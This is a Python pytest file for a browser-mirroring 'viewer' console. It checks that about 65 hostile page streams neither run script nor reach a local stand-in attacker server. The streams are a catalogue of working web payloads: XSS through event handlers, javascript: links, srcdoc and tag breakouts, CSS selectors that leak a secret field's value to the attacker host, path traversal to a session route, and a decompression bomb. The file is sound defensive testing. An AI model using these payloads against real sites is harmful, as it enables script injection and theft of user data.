"""What a hostile visitor may send: no script of theirs runs in the agent's browser, and no request leaves it."""
# ruff: noqa: E501  the streams read best one a line

import base64
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from forged import (
    ATTACKER,
    MATH,
    SHADOW,
    SVG,
    Node,
    Ops,
    begin,
    deflated,
    document,
    element,
    end,
    frame,
    page,
    sheet_text,
    snapshot,
    stream,
    text,
)  # fmt: skip
from mirror_pair import Pair

_RUN = "parent.postMessage('ran', '*'); fetch('§/ran')"


class Trap:
    """A site of the attacker's that answers everything and remembers what it was asked for."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        trap = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                trap.asked.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *_: Any) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.origin = f"http://127.0.0.1:{self._server.server_address[1]}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture(scope="module")
def trap() -> Iterator[Trap]:
    trap = Trap()
    ATTACKER.origin = trap.origin
    yield trap
    trap.close()


def styled(css: str) -> list[bytes]:
    ops = Ops().add(1, 2, element("html")).add(2, 3, element("head"), element("body"))
    ops.add(4, 10, element("input", type="text"), element("p", class_="a"), text("words"))
    ops.field(10, 2, "secret").sheet(1, "h").sheets(1, 1)
    return stream(begin(), ops.payload, sheet_text("h", css), end(7))


def spliced(css: str) -> list[bytes]:
    ops = (
        Ops()
        .add(1, 2, element("html"))
        .add(2, 3, element("head"), element("body"))
        .add(4, 10, element("p", class_="a"))
    )
    ops.sheet(1, "h").sheets(1, 1)
    return stream(begin(), ops.payload, sheet_text("h", "p{color:red}"), end(5), Ops().rules(1, css).payload)


def changed(name: str, value: str, node: Node | None = None) -> list[bytes]:
    frames = document(node or element("img"))
    return [*frames, frame(Ops().attribute(10, name, value).payload, 4)]


def inside(kind: int, *nodes: Node) -> list[bytes]:
    """Below a shadow root, or in the document of a frame."""
    host = element("div") if kind == SHADOW else element("iframe")
    ops = Ops().add(1, 2, element("html")).add(2, 3, element("head"), element("body")).add(4, 10, host)
    ops.add(10, 11, Node(kind)).add(11, 20, *nodes)
    return snapshot(ops, 6 + len(nodes))


# '§' stands for the attacker's site.
STREAMS: dict[str, Callable[[], list[bytes]]] = {
    "a script": lambda: document(element("script", src="§/s.js"), element("script")),
    "a script in the head": lambda: document(text("x"), head=[element("script", src="§/s.js")]),
    "a script in a drawing": lambda: document(element("script", SVG, href="§/s.js")),
    "a handler on an image": lambda: document(element("img", src="x", onerror=_RUN, onload=_RUN)),
    "a handler set later": lambda: changed("onerror", _RUN),
    "handlers of the body": lambda: changed("onload", _RUN, element("body")),
    "handlers that need no act": lambda: document(element("marquee", onstart=_RUN), element("details", ontoggle=_RUN, open=""), element("input", onfocus=_RUN, autofocus=""), element("div", onanimationstart=_RUN)),
    "a javascript: link": lambda: document(element("a", href=f"javascript:{_RUN}"), element("a", SVG, href=f"javascript:{_RUN}")),
    "a javascript: link set later": lambda: changed("href", f"java\tscript:{_RUN}", element("a")),
    "a link with a ping": lambda: document(element("a", href="§/l", ping="§/ping", target="_top", download="")),
    "a frame of elsewhere": lambda: document(element("iframe", src="§/f"), element("frame", src="§/f"), element("frameset")),
    "a frame with its own source": lambda: document(element("iframe", srcdoc=f"<script>{_RUN}</script>")),
    "a data: frame": lambda: document(element("iframe", src=f"data:text/html,<script>{_RUN}</script>")),
    "a script in a frame's document": lambda: inside(6, element("html"), element("script", src="§/s.js")),
    "a script in a shadow": lambda: inside(SHADOW, element("script", src="§/s.js"), element("img", onerror=_RUN, src="x")),
    "an object": lambda: document(element("object", data="§/o")),
    "an embed": lambda: document(element("embed", src="§/e")),
    "an applet and a fenced frame": lambda: document(element("applet", code="§/a"), element("fencedframe", src="§/f")),
    "a base": lambda: document(element("img", src="x.png"), head=[element("base", href="§/")]),
    "a refresh": lambda: document(text("x"), head=[element("meta", http_equiv="refresh", content="0;url=§/m")]),
    "a policy of the visitor's": lambda: document(text("x"), head=[element("meta", http_equiv="Content-Security-Policy", content="default-src *")]),
    "links in the head": lambda: document(text("x"), head=[element("link", rel="stylesheet", href="§/c")]),
    "hints to fetch ahead": lambda: document(element("link", rel="prefetch", href="§/p"), element("link", rel="preconnect", href="§"), element("link", rel="dns-prefetch", href="§")),
    "a manifest and a background": lambda: changed("background", "§/b", element("body", manifest="§/m")),
    "an image of elsewhere": lambda: document(element("img", src="§/i.png")),
    "an image that climbs out of the route": lambda: document(element("img", src="../../../v1/session"), element("img", src="§/i"), element("img", src="/assets/../forbidden")),
    "images in sets": lambda: document(element("img", srcset="§/1.png 1x"), element("picture"), element("source", srcset="§/2.png"), element("img", lowsrc="§/3", dynsrc="§/4")),
    "an image that comes later": lambda: changed("src", "§/i.png"),
    "a tracking pixel as input": lambda: document(element("input", type="image", src="§/i.png"), element("input", type="image", formaction="§/x")),
    "sound and film": lambda: document(element("video", src="§/v", poster="§/p", autoplay=""), element("audio", src="§/a", autoplay=""), element("source", src="§/s"), element("track", src="§/t")),
    "a form that sends itself": lambda: document(element("form", action="§/form", method="post"), element("input", type="submit", formaction="§/go"), element("button", type="submit", formaction=f"javascript:{_RUN}", autofocus="")),
    "a drawing that loads": lambda: document(element("svg", SVG), element("image", SVG, href="§/i.png"), element("use", SVG, href="§/u.svg#x"), element("feImage", SVG, href="§/f.png")),
    "a drawing with old links": lambda: changed("xlink:href", "§/u.svg#x", element("use", SVG)),
    "a drawing that changes itself": lambda: document(element("animate", SVG, attributeName="href", to=f"javascript:{_RUN}"), element("set", SVG, attributeName="onload", to=_RUN)),
    "paint from elsewhere": lambda: document(element("rect", SVG, fill="url(§/p.svg#p)", filter="url(§/f.svg#f)", mask="url(§/m.svg#m)")),
    "a page inside a drawing": lambda: document(element("foreignObject", SVG), element("iframe", SVG, src="§/f"), element("style", SVG)),
    "formulas that link": lambda: document(element("math", MATH), element("mtext", MATH, href=f"javascript:{_RUN}"), element("annotation-xml", MATH, encoding="text/html")),
    "a style element": lambda: document(element("style"), text("@import url(§/c);")),
    "an import": lambda: styled('@import url("§/c.css");\x1ep{background:url(§/b)}'),
    "pictures in a sheet": lambda: styled('p{background:url("§/b");list-style:url(§/l);cursor:url(§/c),auto;border-image:url(§/r) 1;content:url(§/t);mask-image:url(§/m);filter:url(§/f#x)}'),
    "a letter from elsewhere": lambda: styled('@font-face{font-family:x;src:url("§/f.woff2")}\x1ep{font-family:x}'),
    "reading a field by its letters": lambda: styled('input[value^="s"]{background:url(§/s)}\x1einput:has(+ p){background:url(§/p)}'),
    "addresses in disguise": lambda: styled(r'p{background:\75rl(§/e);background:u\72l("§/e2");background:URL( "§/e3" )}'),
    "images without the word": lambda: styled('p{background:image-set("§/i" 1x);background:-webkit-image-set("§/w" 1x);background:cross-fade("§/x","§/y");background:src("§/z")}'),
    "an address in a variable": lambda: styled('p{--x:url(§/v);background:var(--x)}\x1e@property --y{syntax:"<image>";inherits:false;initial-value:url(§/y)}\x1ep{background-image:var(--y)}'),
    "a sheet that changes": lambda: spliced('p{background:url("§/late")}'),
    "a rule that breaks out": lambda: spliced('}</style><script>parent.postMessage("ran","*")</script>@import "§/x";p{'),
    "a style of its own": lambda: document(element("p", style='background:url(§/b);-moz-binding:url(§/m);behavior:url(§/h);width:expression(alert(1))')),
    "a style set later": lambda: changed("style", 'content:url("§/late");background-image:image-set("§/i" 1x)', element("p")),
    "text that looks like markup": lambda: document(text(f"<img src=x onerror=\"{_RUN}\"><script>{_RUN}</script>"), element("textarea"), element("button", title=f'"><script>{_RUN}</script>')),
    "a field that looks like markup": lambda: [*document(element("textarea")), frame(Ops().field(10, 2, f"</textarea><script>{_RUN}</script>").payload, 4)],
    "parts that parse twice": lambda: document(element("template"), element("noscript"), element("plaintext"), element("xmp")),
    "elements that upgrade": lambda: document(element("x-a", is_="x-b"), element("button", is_="x-b"), element("balie-frame"), element("balie-none")),
    "dialogs that open and send": lambda: [*document(element("dialog"), element("div", popover="auto")), frame(Ops().layer(10, 2).layer(11, 3).payload, 4)],
    "our own marks": lambda: document(element("div", data_balie="box", style="position:fixed"), element("div", data_balie_media="x")),
    "a picture that is none": lambda: [*document(element("canvas")), frame(Ops().canvas(10, b"RIFF\xff\xff\xff\xffWEBPVP8 " + b"\xff" * 64).payload, 4), frame(Ops().box(10, 4_000_000_000, 4_000_000_000).payload, 5)],
    "an address and a title as markup": lambda: [*document(text("x")), frame(page(f"javascript:{_RUN}", f"</title><script>{_RUN}</script>"), 4)],
    "a second html inside the first": lambda: snapshot(Ops().add(1, 2, element("html")).add(1, 3, element("html"), element("body", onload=_RUN)), 4),
    "an element that holds itself": lambda: [*document(element("div"), element("p")), frame(Ops().raw(b"\x03\x0a\x0b\x00").raw(b"\x03\x0b\x0a\x00").payload, 4)],
    "a text as parent": lambda: [*document(text("x")), frame(Ops().add(10, 30, element("script")).payload, 4)],
    "a bomb": lambda: [frame(begin(), 1), frame(deflated(b"\x02" + bytes(8_000_000)), 2, flags=1)],
    "a number without an end": lambda: [frame(begin(), 1), frame(b"\x02\x01" + b"\xff" * 64, 2)],
    "a count beyond its frame": lambda: [frame(begin(), 1), frame(b"\x02\x01\x02\x00\x02\xff\xff\xff\xff\x0f", 2)],
    "a frame for the visitor": lambda: [frame(begin(), 1), frame(b"\x24\x01\x01\x01", 2, direction=1)],
    "an unknown kind": lambda: stream(begin(), b"\xfa", end(0)),
    "half a letter": lambda: [frame(begin(), 1), frame(b"\x07\x02\xff\xfe\x00", 2)],
}  # fmt: skip


@pytest.fixture
def watched(pair: Pair, trap: Trap) -> Pair:
    pair.agent.goto(pair.site.origin + "/console")
    pair.agent.wait_for_function("window.agent !== undefined")
    # What runs anywhere below tells it here; and what the console itself may load, it loads.
    pair.agent.evaluate(
        "() => { window.ran = []; addEventListener('message', (it) => ran.push(String(it.data))); }"
    )
    return pair


def plays(pair: Pair, frames: list[bytes]) -> None:
    """In a fresh viewer. Returns when all were played or refused and what they might start has had its turn."""
    agent = pair.agent
    agent.evaluate("(it) => agent.begin(it, false)", f"{pair.site.origin}/assets/")
    start = len(pair.heard)
    for one in frames:
        agent.evaluate("(it) => agent.take(it)", base64.b64encode(one).decode())
    # A frame of no known version is refused whatever came before, and after all of that.
    agent.evaluate("(it) => agent.take(it)", base64.b64encode(b"\x00" * 13).decode())
    pair.hears({"t": "notice", "what": "refused", "detail": "version (version: 0)"}, start)
    copy = pair.copy
    copy.evaluate(
        """() => new Promise((done) => {
          for (const it of document.querySelectorAll('a, button, input, summary, [tabindex]')) { it.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true })); it.focus?.(); }
          for (const it of document.querySelectorAll('form')) it.requestSubmit?.();
          requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(done)));
        })"""
    )
    agent.evaluate("() => fetch('/console').then((it) => it.text())")


@pytest.mark.parametrize("name", STREAMS)
def test_a_hostile_stream_runs_no_script_and_asks_for_nothing(name: str, watched: Pair, trap: Trap) -> None:
    before = len(trap.asked)
    asked = len(watched.site.asked)
    plays(watched, STREAMS[name]())
    assert watched.agent.evaluate("ran") == []
    assert trap.asked[before:] == []
    assert [
        it
        for it in watched.site.asked[asked:]
        if not it.startswith(("/viewer", "/bundle/", "/console", "/assets/"))
    ] == []
    assert watched.copy.evaluate("[self.origin, location.pathname]") == ["null", "/viewer"]
    assert watched.copy.evaluate("document.scripts.length") <= 1


def test_the_trap_hears_what_is_not_held_back(watched: Pair, trap: Trap) -> None:
    """Without the viewer's three layers the same things run and leave: the tests above can fail."""
    before = len(trap.asked)
    watched.agent.evaluate(
        """(origin) => new Promise((done) => {
          const frame = document.createElement('iframe');
          frame.srcdoc = `<script>parent.postMessage('ran', '*')</script><img src="${origin}/i.png">`;
          addEventListener('message', () => fetch(origin + '/f').then(done), { once: true });
          document.body.append(frame);
        })""",
        trap.origin,
    )
    assert watched.agent.evaluate("ran") == ["ran"]
    assert "/f" in trap.asked[before:]
